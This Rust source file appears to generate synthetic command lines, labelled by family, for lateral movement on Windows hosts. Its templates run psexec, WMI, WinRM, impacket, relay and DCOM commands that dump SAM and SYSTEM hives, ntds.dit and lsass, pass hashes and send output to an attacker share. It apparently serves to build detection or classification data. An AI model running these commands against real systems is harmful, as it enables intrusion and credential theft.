//! The hives of another machine: remote registry, WinRM, WMI, services, tasks, downloads,
//! relays and agents; and the same remote work on anything else.

use crate::generate::family::{Family, Kind::Cmd, Kind::Ps, Kind::Sh};

const WIN: &[&str] = &[
    r#"winrs -r:{host} «-u:{user} -p:{password} ¦»«"{c}"¦cmd /c {c}¦{c}»"#,
    concat!(
        r"{psexec} \\{host} «-s ¦-u {user} -p {password} ¦-accepteula -s ¦-h -d »«cmd /c ¦cmd.exe /c ¦",
        r#"»«"{c}"¦{c}»"#
    ),
    "{psexec} @hosts.txt -s «cmd /c »{c}",
    concat!(
        r#"wmic /node:«{host}¦"{host}"¦@hosts.txt» «/user:{user} /password:{password} »process call create "#,
        r#"«"{c}"¦"cmd /c {c}"¦"cmd.exe /c {c} > \\{attacker}\{share}\{stem}.txt"»"#
    ),
    concat!(
        r#"schtasks /create /s {host} «/u {user} /p {password} »/tn {stem.1} /tr "«cmd /c »{c}" /sc once "#,
        "/st {10..23}:{10..59} /ru SYSTEM« /f» && schtasks /run /s {host} /tn {stem.1}"
    ),
    concat!(
        r#"sc \\{host} create {alnum6.1} binPath= "%COMSPEC% /c {c}" start= demand && sc \\{host} start "#,
        r"{alnum6.1}« && sc \\{host} delete {alnum6.1}»"
    ),
    r"net use \\{host}\IPC$ /user:{domain}\{user} {password} && {c2}",
    concat!(
        r"sc \\{host} config RemoteRegistry start= demand & sc \\{host} start RemoteRegistry & {c2}« & sc ",
        r"\\{host} stop RemoteRegistry»"
    ),
    r"for /f %h in (hosts.txt) do «@»reg «save¦query¦export» \\%h\HKLM\{tail} {dir}\%h.{anyext}",
    r"for %h in ({plainhost} {plainhost}) do {psexec} \\%h -s {c}",
    r"«copy¦xcopy /y¦robocopy» \\{host}\«C$¦c$¦ADMIN$\..»\{f}« {outdir}»",
    r"«net use Z: \\{host}\C$ & ¦pushd \\{host}\C$ & »copy {f} {outdir}« & popd»",
    r"«paexec¦csexec¦remcom¦xcmd¦RemCom.exe» \\{host} «-s ¦»«cmd /c »{c}",
    concat!(
        r#"«SharpWMI.exe action=exec computername={host} command="{c}"¦SharpExec.exe -m=psexec -i={ip} "#,
        r#"-u={user} -p={password} -d={domain} -e=C:\Windows\System32\cmd.exe -c="/c {c}"¦CheeseExec.exe "#,
        r#"{host} {stem} "{c}"»"#
    ),
    r"at \\{host} {10..23}:{10..59} «cmd /c »{c}",
    concat!(
        r"echo {c} > \\{host}\C$\{stem.1}.bat & schtasks /create /s {host} /ru SYSTEM /tn {alnum5} /tr ",
        r"C:\{stem.1}.bat /sc onstart"
    ),
    r#"mstsc-exec /v:{host} /cmd:"{c}""#,
    "qwinsta /server:{host} & {c2}",
];

const POSH: &[&str] = &[
    "Invoke-Command -ComputerName {host} «-Credential $cred ¦»-ScriptBlock { {pc} }« -AsJob»",
    "icm «-cn ¦»{host} { {pc} }",
    concat!(
        "Invoke-Command -Session (New-PSSession «{host}¦-ComputerName {host} -Credential $c») ",
        "-ScriptBlock {«⏎    »{pc}«⏎»}"
    ),
    r"$s = New-PSSession {host}; Invoke-Command $s { {pc} }; Copy-Item -FromSession $s {dir}\{stem} .",
    r"Enter-PSSession {host}⏎[{host}]: PS C:\Users\{user}\Documents> {pc}",
    r"[{plainhost}]: PS C:\> {pc}",
    "$hosts | ForEach-Object { Invoke-Command -ComputerName $_ -ScriptBlock { {pc} } }",
    concat!(
        r#"Invoke-WmiMethod -ComputerName {host} -Class Win32_Process -Name Create -ArgumentList "«cmd /c "#,
        r#"»{c}""#
    ),
    concat!(
        "Invoke-CimMethod -ComputerName {host} -ClassName Win32_Process -MethodName Create -Arguments @{ ",
        "CommandLine = '{c}' }"
    ),
    r#"([wmiclass]"\\{plainhost}\root\cimv2:Win32_Process").Create("{c}")"#,
    concat!(
        "«Invoke-WMIExec¦Invoke-SMBExec» -Target {ip} -Domain {domain} -Username {user} -Hash {nthash} ",
        r#"-Command «"{c}"¦"cmd /c {c}"»« -verbose»"#
    ),
    r#"Invoke-PsExec -ComputerName {host} -Command "{c}" -ResultFile {stem}.txt"#,
    "$sb = { {pc} }; Invoke-Command -ScriptBlock $sb -ComputerName (gc hosts.txt)",
    concat!(
        "function {alnum5.1} { {pc} }⏎Invoke-Command -ComputerName {host} -ScriptBlock ",
        "${function:{alnum5.1}}"
    ),
    concat!(
        "$r = [Microsoft.Win32.RegistryKey]::OpenRemoteBaseKey('LocalMachine','{host}'); ",
        "$r.OpenSubKey('{tail}').«GetSubKeyNames()¦GetValueNames()»"
    ),
    concat!(
        r"$reg = Get-WmiObject -List StdRegProv -Namespace root\default -ComputerName {host}« -Credential ",
        "$cred»; $reg.EnumKey(2147483650, '{tail}').sNames"
    ),
    r"Copy-Item \\{host}\C$\{f} {psdir}",
    "Start-Process -Credential $cred -FilePath cmd -ArgumentList '/c {c}'",
    concat!(
        "[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','{ip}')).Document.Acti",
        "veView.ExecuteShellCommand('cmd',$null,'/c {c}','7')"
    ),
    concat!(
        "[activator]::CreateInstance([type]::GetTypeFromCLSID('9BA05972-F6A8-11CF-A442-00A0C90A8F39','{ip",
        r"}')).Item().Document.Application.ShellExecute('cmd.exe','/c {c}','C:\Windows\System32',$null,0)"
    ),
];

const UNIX: &[&str] = &[
    "{imp} {target} «{impauth} »'{c}'",
    concat!(
        "«{python} ¦proxychains -q ¦»«wmiexec¦smbexec¦psexec¦atexec¦dcomexec».py «{impauth} ¦»{target} ",
        r#""{c}""#
    ),
    r"{imp} {target}⏎C:\Windows\system32>{c}",
    concat!(
        "«evil-winrm¦evil-winrm.rb» -i {rhost} -u {user} «-p '{password}'¦-H {nthash}»« ",
        r"-S»⏎«*Evil-WinRM* »PS C:\Users\{user}\Documents> {ec}"
    ),
    r"*Evil-WinRM* PS C:\{stem}> {ec}⏎*Evil-WinRM* PS C:\{stem}> {ec}",
    r"*Evil-WinRM* PS C:\> download {dl}",
    concat!(
        "«winrm-shell¦winrm¦pywinrm»: s = winrm.Session('{ip}', auth=('{user}', '{password}')); ",
        "s.run_«cmd¦ps»(r'{c}')"
    ),
    concat!(
        "conn = WinRM::Connection.new(endpoint: 'http://{ip}:5985/wsman', user: '{user}', password: ",
        "'{password}'); conn.shell(:«cmd¦powershell») { |sh| sh.run('{c}') }"
    ),
    r#"{nxc} «smb¦winrm¦wmi¦mssql¦ssh» {nxctarget} {nxcauth} -«x¦X» «'{c}'¦"{c}"»"#,
    concat!(
        "services.py {target} create -name {alnum5.1} -display {alnum5} -path 'cmd /c {c}'; services.py ",
        "{target} start -name {alnum5.1}"
    ),
    concat!(
        "wmipersist.py {target} install -name {stem} -vbs {stem}.vbs -filter 'SELECT * FROM ",
        "__InstanceModificationEvent'; {imp} {target} '{c}'"
    ),
    r#"mssqlclient.py {target} -windows-auth⏎SQL> xp_cmdshell «{c}¦"{c}"»"#,
    concat!(
        "rpcclient -U {user}%{password} {ip} -c '«lookupnames {first}¦winreg {tail}»'; {imp} {target} ",
        "'{c}'"
    ),
    r"net rpc registry «getvalue¦enumerate¦save» 'HKLM\{tail}' «{stem} ¦»-S {ip} -U {user}%{password}",
    r#"ntlmrelayx.py -t «smb://¦»{ip} -smb2support «-c "{c}"¦-e {stem}.exe; {imp} {target} '{c}'»"#,
    "metasploit: set CMD {c}; run auxiliary/admin/smb/psexec_command",
    "ansible {host} -i {stem}.ini -m «win_shell¦win_command¦ansible.windows.win_shell» -a '{c}'",
    "salt -G 'os:Windows' cmd.run '{c}'",
    "sshpass -p '{password}' ssh «-o StrictHostKeyChecking=no »{user}@{rhost} '{c}'",
    r#"curl -s "http://{rhost}:{port}/{stem}.«aspx¦jsp¦php»?cmd={c}""#,
    concat!(
        "«impacket-wmiexec¦wmiexec2.py¦wmiexec-pro.py» -shell-type powershell -silentcommand {target} ",
        "'{c}'"
    ),
    "xfreerdp /v:{ip} /u:{user} /p:{password} /shell:'cmd /c {c}'",
    r"nc -lvnp {port}⏎C:\Windows\system32>{c}",
    concat!(
        r"vmrun -gu {user} -gp {password} runProgramInGuest {stem}.vmx C:\\Windows\\System32\\cmd.exe '/c ",
        "{c}'"
    ),
    concat!(
        "aws ssm send-command --document-name AWS-RunPowerShellScript --instance-ids i-{hex17} ",
        r#"--parameters 'commands=["{c}"]'"#
    ),
    concat!(
        "az vm run-command invoke -g {stem} -n {plainhost} --command-id RunPowerShellScript --scripts ",
        "'{c}'"
    ),
];

const ACTS: &[(&str, &str)] = &[
    (
        "c",
        concat!(
            r"«reg save {locallm}\{whole} {outfile}« /y»¦reg.exe save {locallm}\{secret} {outfile}¦reg export ",
            r"{locallm}\{secret} {dir}\{stem}.reg /y¦reg query {locallm}\{inner}« /s»¦esentutl.exe /y /vss ",
            r"{samfile} /d {outfile}¦copy {shadowhive} {outfile}¦reg save HKLM\SAM {dir}\{stem} && reg save ",
            r"HKLM\SYSTEM {dir}\{stem}¦robocopy /b C:\Windows\System32\config {dir} SAM¦{dir}\pwdump7.exe¦",
            r"{dir}\fgdump.exe -c»"
        ),
    ),
    (
        "c2",
        concat!(
            r"«reg save \\{host}\HKLM\{whole} {outfile}¦reg query \\{host}\HKLM\{inner} /s¦copy ",
            r"\\{host}\C$\Windows\System32\config\RegBack\{secret} {outdir}¦reg export \\{host}\HKLM\SAM ",
            "{stem}.reg»"
        ),
    ),
    ("tail", r"«{secret}¦{inner}¦SAM¦SAM\SAM\Domains\Account»"),
    ("f", r"«Windows\System32\config\RegBack\{secret}¦Windows\System32\config\{whole}¦Windows\repair\SAM»"),
    (
        "pc",
        concat!(
            r"«reg save HKLM\{whole} {outfile}« /y»¦Get-ChildItem HKLM:\{inner}¦Copy-Item {pshive} {outfile}¦",
            r#"reg export HKLM\{secret} {stem}.reg¦cmd /c "reg save hklm\sam {dir}\{stem}"¦Get-ItemProperty "#,
            r"HKLM:\SAM\SAM\Domains\Account -Name F¦[IO.File]::Copy('{shadowhive}','{outfile}')»"
        ),
    ),
    (
        "ec",
        concat!(
            r"«reg save hklm\{secret} {outname}¦reg save HKLM\SAM C:\temp\sam⏎*Evil-WinRM* PS C:\> reg save ",
            r"HKLM\SYSTEM C:\temp\system¦download C:\Windows\System32\config\RegBack\SAM¦robocopy /b ",
            r"{shadow}\Windows\System32\config . SAM¦reg.exe save hklm\system {dir}\{stem}¦Invoke-PowerDump»"
        ),
    ),
    (
        "dl",
        concat!(
            r"«C:\Windows\System32\config\{secret}¦C:\Windows\repair\sam {stem}¦",
            r"{shadow}\Windows\System32\config\SAM {stem}¦C:\Windows\System32\config\RegBack\SYSTEM»"
        ),
    ),
    ("imp", IMP),
];

const OTHERS: &[(&str, &str)] = &[
    (
        "c",
        concat!(
            r"«reg save {otherreg} {outfile}« /y»¦reg.exe save {locallm}\SOFTWARE {outfile}¦reg export ",
            r"{otherreg} {dir}\{stem}.reg /y¦reg query {otherreg}« /s»¦esentutl.exe /y /vss ",
            r"C:\Windows\NTDS\ntds.dit /d {outfile}¦copy {shadowother} {outfile}¦whoami /all¦hostname && ",
            r"ipconfig¦robocopy /b C:\Windows\NTDS {dir} ntds.dit¦{dir}\procdump.exe -ma lsass.exe¦net user ",
            r"{user} {password} /add¦{dir}\{stem}.exe -c¦tasklist¦dir C:\Users\sam¦vssadmin list shadows¦",
            "powershell -enc {b64_80}»"
        ),
    ),
    (
        "c2",
        concat!(
            r"«reg save \\{host}\HKLM\SOFTWARE {outfile}¦reg query \\{host}\HKLM\{syskey} /s¦copy ",
            r"\\{host}\C$\Users\{first}\{stem}.docx {outdir}¦reg export \\{host}\HKLM\{softkey} {stem}.reg¦",
            r"dir \\{host}\C$»"
        ),
    ),
    ("tail", "«SOFTWARE¦{softkey}¦{syskey}¦{lookkey}»"),
    (
        "f",
        concat!(
            r"«Windows\NTDS\ntds.dit¦Users\{user}\{stem}.xlsx¦Windows\System32\config\SOFTWARE¦",
            r"Windows\System32\winevt\Logs\Security.evtx¦Users\sam\{stem}.txt»"
        ),
    ),
    (
        "pc",
        concat!(
            r"«reg save HKLM\SOFTWARE {outfile}« /y»¦Get-ChildItem HKLM:\{syskey}¦Copy-Item {psother} ",
            r#"{outfile}¦reg export {otherreg} {stem}.reg¦cmd /c "reg save hkcu {dir}\{stem}"¦Get-ItemProperty "#,
            r"HKLM:\{softkey}¦[IO.File]::Copy('{otherfile}','{outfile}')¦Get-Service {svcname}¦Get-LocalUser ",
            "sam¦Invoke-Mimikatz -DumpCreds»"
        ),
    ),
    (
        "ec",
        concat!(
            r"«reg save hklm\software {outname}¦reg query HKLM\{syskey}¦download {docfile}¦robocopy /b ",
            r"{shadow}\Windows\NTDS . ntds.dit¦upload {stem}.exe¦menu¦services¦whoami /priv¦Bypass-4MSI¦type ",
            r"C:\Users\{first}\Desktop\user.txt»"
        ),
    ),
    (
        "dl",
        concat!(
            r"«C:\Windows\NTDS\ntds.dit¦C:\Users\sam\{stem}.zip¦{shadow}\Windows\NTDS\ntds.dit {stem}¦",
            r"C:\Windows\System32\config\SOFTWARE¦C:\Users\{user}\Documents\{stem}.kdbx»"
        ),
    ),
    ("imp", IMP),
];

const IMP: &str = concat!(
    "«wmiexec.py¦psexec.py¦smbexec.py¦atexec.py¦impacket-wmiexec¦impacket-psexec¦impacket-smbexec¦",
    "impacket-atexec¦impacket-dcomexec¦proxychains -q impacket-wmiexec¦{python} ",
    "{impketdir}smbexec.py»"
);

pub const FAMILIES: &[Family] = &[
    Family::act("remote-windows", "remote-windows-hive", "remote-windows-other", Cmd, WIN)
        .slots(ACTS)
        .weight(14),
    Family::other("remote-windows", "remote-windows-other", Cmd, WIN).slots(OTHERS).weight(12),
    Family::act("remote-posh", "remote-posh-hive", "remote-posh-other", Ps, POSH).slots(ACTS).weight(14),
    Family::other("remote-posh", "remote-posh-other", Ps, POSH).slots(OTHERS).weight(12),
    Family::act("remote-unix", "remote-unix-hive", "remote-unix-other", Sh, UNIX).slots(ACTS).weight(14),
    Family::other("remote-unix", "remote-unix-other", Sh, UNIX).slots(OTHERS).weight(12),
];
